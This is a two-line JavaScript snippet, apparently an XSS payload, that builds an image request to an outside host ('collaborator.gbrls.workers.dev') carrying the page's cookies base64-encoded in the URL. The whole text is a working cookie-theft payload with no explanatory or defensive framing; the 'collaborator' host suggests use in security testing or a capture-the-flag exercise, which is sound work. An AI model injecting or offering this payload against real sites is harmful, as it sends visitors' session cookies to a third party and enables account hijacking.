const i = new Image();
i.src = "https://collaborator.gbrls.workers.dev/?c=" + btoa(document.cookie);
